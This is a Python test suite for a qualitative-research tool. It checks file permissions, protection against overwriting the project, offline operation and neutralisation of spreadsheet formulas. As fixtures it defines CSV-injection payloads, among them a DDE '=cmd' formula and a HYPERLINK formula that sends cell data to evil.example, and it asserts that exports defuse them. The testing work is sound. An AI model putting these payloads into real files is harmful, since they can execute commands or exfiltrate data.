"""Privacy of what qualkit writes (issue 16 §6): every file owner-only (0600) under a umask that
would make it world-readable, never written over the project, spreadsheet formulas neutralised
(OWASP's CSV injection advice), and no network socket opened, by the suite or by `topics`.
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from qualkit.coding import import_codings
from qualkit.files import neutralise, restore
from qualkit.store import Store

from .conftest import CODEBOOK, ROOT, NetworkBlocked, assert_user_error, cli, dump
from .integrate_helpers import COHORT, COVS, LINKS, OUTS, RUN, build_sample

EVIL_CODER = "=cmd|' /C calc'!A0"
EVIL_DOC = "@evil.txt"  # a file name is a cell too
EVIL_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    return build_sample(tmp_path_factory.mktemp("privacy") / "sample.qualkit")


@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    yield
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _exports(project: Path, out: Path) -> list[tuple[str, ...]]:
    """Every CLI command that writes a file, with the files it writes under ``out``."""
    return [
        ("codings", "export", project, out / "codings.csv", "--with-text"),
        ("codebook", project, "--export", out / "codebook.yaml"),
        ("agree", project, "--csv", out / "agreement.csv"),
        ("disagreements", project, "--coders", "ana,ben", "--csv", out / "disagreements.csv"),
        ("export", project, "-o", out / "project.qdpx"),
        ("export", project, "-o", out / "codebook.qdc"),
        ("export", project, "-o", out / "segments.csv"),
        ("export", project, "-o", out / "segments.xlsx"),
        ("export", project, "-o", out / "segments.json"),
        ("export", project, "-o", out / "codebook.md"),
        ("export", project, "-o", out / "codebook.docx"),
        ("matrix", project, "--csv", out / "matrix.csv", "--xlsx", out / "matrix.xlsx",
         "--markdown", out / "matrix.md"),
        ("cooccur", project, "--csv", out / "cooccur.csv"),
        ("saturation", project, "--plot", out / "saturation.png", "--csv", out / "sat.csv"),
        ("outcomes", "match", COHORT, "--treatment", "treated", "--covariates", COVS,
         "--outcomes", OUTS, "--plot", out / "love.png"),
        ("joint", project, "--run", RUN, "--links", LINKS, "--xlsx", out / "joint.xlsx",
         "--csv", out / "joint.csv", "--markdown", out / "joint.md"),
    ]


def test_every_cli_export_is_owner_only_under_umask_022(built, tmp_path, umask_022):
    out = tmp_path / "out"
    out.mkdir()
    for args in _exports(built, out):
        result = cli(*args)
        assert result.exit_code == 0, (args, result.stderr)
    written = sorted(out.iterdir())
    expected = {"codings.csv", "codebook.yaml", "agreement.csv", "disagreements.csv",
                "project.qdpx", "codebook.qdc", "segments.xlsx", "codebook.docx", "matrix.md",
                "saturation.png", "saturation.svg", "love.png", "love.svg", "joint.xlsx"}
    assert expected <= {p.name for p in written}
    assert {p.name: oct(_mode(p)) for p in written} == {p.name: "0o600" for p in written}
    assert not [p for p in written if p.name.startswith(".")]  # no temporary file left over


def test_topics_markdown_is_owner_only(tmp_path, umask_022):
    from .test_topics import _cached_under_real_name
    from .topics_helpers import make_synthetic_project

    project = make_synthetic_project(tmp_path)
    _cached_under_real_name(project)
    markdown = tmp_path / "topics.md"
    result = cli("topics", "show", project, "--markdown", markdown)
    assert result.exit_code == 0, result.stderr
    assert "##" in markdown.read_text() and _mode(markdown) == 0o600


def test_library_exports_are_owner_only(sample_project, tmp_path, umask_022):
    from qualkit import Project

    with Project.open(sample_project) as project:
        project.export_codebook(tmp_path / "codebook.yaml")
        project.export_codings(tmp_path / "codings.csv")
    assert _mode(tmp_path / "codebook.yaml") == _mode(tmp_path / "codings.csv") == 0o600


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm"])
def test_an_export_never_replaces_the_project(built, tmp_path, suffix):
    project = tmp_path / "p.qualkit"
    project.write_bytes(built.read_bytes())
    before = dump(project)
    target = Path(f"{project}{suffix}")
    result = cli("codings", "export", project, target)
    assert_user_error(result, str(target), "is the project")
    assert dump(project) == before
    assert_user_error(cli("export", project, "-o", project, "--format", "csv"), "is the project")
    link = tmp_path / "same.csv"
    os.link(project, link)  # the project under another name
    assert_user_error(cli("codings", "export", project, link), "under another name")
    assert dump(project) == before


# -- formula injection -------------------------------------------------------------------------


def test_neutralise_leaves_numbers_and_plain_text_alone_and_is_reversible():
    assert [neutralise(v) for v in (-0.5, 3, None, "ok", "a=b")] == [-0.5, 3, None, "ok", "a=b"]
    assert [neutralise(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\r=x")] == [
        "'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\tx", "'\r=x"]
    for text in ("=x", "'=x", "''+y", "plain", "'plain", ""):
        assert restore(neutralise(text)) == text


def _evil_project(tmp_path: Path) -> Path:
    """A transcript line that is a formula, coded by a coder whose name is a formula."""
    folder = tmp_path / "t"
    folder.mkdir()
    (folder / EVIL_DOC).write_text(f"P1: {EVIL_TEXT}\nP1: -5 beds left, +2 tomorrow.\n")
    project = tmp_path / "evil.qualkit"
    assert cli("init", project, "--codebook", CODEBOOK).exit_code == 0
    assert cli("import", project, folder).exit_code == 0
    with Store.open(project) as store:
        text = store.documents.text(store.documents.by_name(EVIL_DOC).id)
    start = text.index(EVIL_TEXT)
    rows = [(EVIL_DOC, start, start + len(EVIL_TEXT), "Collaboration", EVIL_CODER),
            (EVIL_DOC, text.index("-5"), text.index("-5") + 12, "Collaboration", "ana")]
    source = tmp_path / "in.csv"
    with open(source, "w", newline="") as handle:
        csv.writer(handle).writerows([("document", "start", "end", "code", "coder"), *rows])
    result = cli("codings", "import", project, source)
    assert result.exit_code == 0, result.stderr
    for coder in (EVIL_CODER, "ana"):
        assert cli("codings", "done", project, "--coder", coder, "--all").exit_code == 0
    return project


def _cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _no_formula(cells: list[str]) -> None:
    """No text cell a spreadsheet would run; numbers such as -0.5 stay numbers."""
    risky = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not _number(c)]
    assert risky == []


def test_codings_csv_neutralises_formulas_and_stays_lossless(tmp_path):
    project = _evil_project(tmp_path)
    out = tmp_path / "codings.csv"
    assert cli("codings", "export", project, out, "--with-text").exit_code == 0
    cells = _cells(out)
    _no_formula(cells)
    assert {"'" + EVIL_CODER, "'" + EVIL_TEXT, "'" + EVIL_DOC} <= set(cells)
    assert "'-5 beds left" in cells
    # read back into a copy: the same codings, the coder's real name, the text check passes
    copy = tmp_path / "copy.qualkit"
    assert cli("init", copy, "--codebook", CODEBOOK).exit_code == 0
    assert cli("import", copy, tmp_path / "t").exit_code == 0
    with Store.open(copy) as store:
        result = import_codings(store, out)
        assert result.added == 2 and EVIL_CODER in result.coders
    assert (cli("codings", "export", copy, "-").stdout
            == cli("codings", "export", project, "-").stdout)


def test_agreement_and_disagreement_csvs_neutralise_formulas(tmp_path):
    project = _evil_project(tmp_path)
    coders = f"{EVIL_CODER},ana"
    for args in (("agree", project, "--coders", coders, "--csv", tmp_path / "a.csv"),
                 ("disagreements", project, "--coders", coders, "--csv", tmp_path / "d.csv")):
        result = cli(*args)
        assert result.exit_code == 0, result.stderr
        _no_formula(_cells(args[-1]))
    cells = _cells(tmp_path / "d.csv")
    assert any(c.startswith("'" + EVIL_CODER) or c == "'" + EVIL_TEXT for c in cells)


def test_integration_tables_neutralise_formulas_in_csv_and_xlsx(tmp_path):
    from openpyxl import load_workbook

    project = _evil_project(tmp_path)
    result = cli("matrix", project, "--coders", EVIL_CODER, "--csv", tmp_path / "m.csv",
                 "--xlsx", tmp_path / "m.xlsx")
    assert result.exit_code == 0, result.stderr
    rows = [r for r in _cells(tmp_path / "m.csv") if not r.startswith("#")]
    _no_formula(rows)
    book = load_workbook(tmp_path / "m.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL_DOC in [c.value for c in cells]


def test_table_cells_index_and_headers_are_neutralised_but_numbers_kept(tmp_path):
    import pandas as pd

    from qualkit.integrate import write_table

    df = pd.DataFrame({"=theme": ["+quote", "plain"], "effect": [-0.5, 2.0]},
                      index=pd.Index(["@doc", "doc"], name="document"))
    df.attrs["title"] = "t"
    write_table(df, tmp_path / "t.csv", "csv")
    back = pd.read_csv(tmp_path / "t.csv", comment="#", index_col=0)
    assert list(back.columns) == ["'=theme", "effect"] and list(back.index) == ["'@doc", "doc"]
    assert list(back["'=theme"]) == ["'+quote", "plain"] and list(back["effect"]) == [-0.5, 2.0]


def test_numbers_stay_numbers_in_the_agreement_csv(built, tmp_path):
    out = tmp_path / "a.csv"
    assert cli("agree", built, "--csv", out).exit_code == 0
    rows = list(csv.DictReader(out.open()))
    numeric = [v for row in rows for v in row.values() if v.lstrip("-").replace(".", "").isdigit()]
    assert numeric and not any(v.startswith("'") for row in rows for v in row.values())


# -- coder names --------------------------------------------------------------------------------


def test_a_nul_byte_in_a_coder_name_is_refused(sample_project, tmp_path):
    before = dump(sample_project)
    source = tmp_path / "nul.csv"
    source.write_text("document,start,end,code,coder\n"
                      "int_patrol_officer.txt,0,10,Collaboration,ma\x00ria\n")
    assert_user_error(cli("codings", "import", sample_project, source), "line 2",
                      "control character")
    assert dump(sample_project) == before
    from qualkit.coding import CodingSession
    from qualkit.errors import QualkitError

    with Store.open(sample_project) as store, pytest.raises(QualkitError, match="control"):
        CodingSession(store, "bad\x00name")


# -- offline ------------------------------------------------------------------------------------


def test_the_suite_cannot_open_a_network_socket():
    with pytest.raises(NetworkBlocked):
        socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    with pytest.raises(NetworkBlocked):
        socket.getaddrinfo("example.org", 443)
    left, right = socket.socketpair()  # local sockets (asyncio's self-pipe) still work
    left.close()
    right.close()


AUDIT = """
import json, socket, sys, traceback
seen = []
def hook(event, args):
    if event == "socket.__new__" and args[1] in (socket.AF_INET, socket.AF_INET6):
        where = [f"{f.filename}:{f.name}" for f in traceback.extract_stack()[-6:-1]]
        seen.append({"event": event, "family": int(args[1]), "where": where})
    elif event in ("socket.connect", "socket.bind", "socket.sendto", "socket.sendmsg",
                   "socket.getaddrinfo", "socket.gethostbyname"):
        if getattr(args[0], "family", None) != socket.AF_UNIX:
            seen.append({"event": event, "args": repr(args[1:])[:200]})
sys.addaudithook(hook)
from qualkit.cli import main
try:
    main(sys.argv[1:], standalone_mode=False)
finally:
    sys.__stdout__.flush()
    with open(sys.argv[0] + ".net.json", "w") as handle:
        json.dump(seen, handle)
"""
# urllib3 (pulled in by the Hugging Face stack) probes at import whether the machine has IPv6 by
# binding a socket to ::1 and closing it: no packet leaves the machine. Anything else fails.
IPV6_PROBE = "urllib3/util/connection.py:_has_ipv6"


def _network_use(seen: list[dict]) -> list[dict]:
    out = []
    for item in seen:
        probe = item["event"] == "socket.__new__" and any(IPV6_PROBE in w for w in item["where"])
        loopback = item["event"] == "socket.bind" and "'::1'" in item["args"]
        if not (probe or loopback):
            out.append(item)
    return out


@pytest.mark.slow
def test_qualkit_topics_on_the_sample_opens_no_network_socket(_sample_project_template, tmp_path):
    project = tmp_path / "sample.qualkit"
    project.write_bytes(_sample_project_template.read_bytes())
    script = tmp_path / "audit.py"
    script.write_text(AUDIT)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "TRANSFORMERS_"))}
    env["PYTHONPATH"] = str(ROOT)
    done = subprocess.run(
        [sys.executable, str(script), "topics", str(project), "--json"], env=env,
        capture_output=True, text=True, timeout=900, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
    assert json.loads(done.stdout)["topics"]  # it really ran
    assert _network_use(json.loads(Path(f"{script}.net.json").read_text())) == []
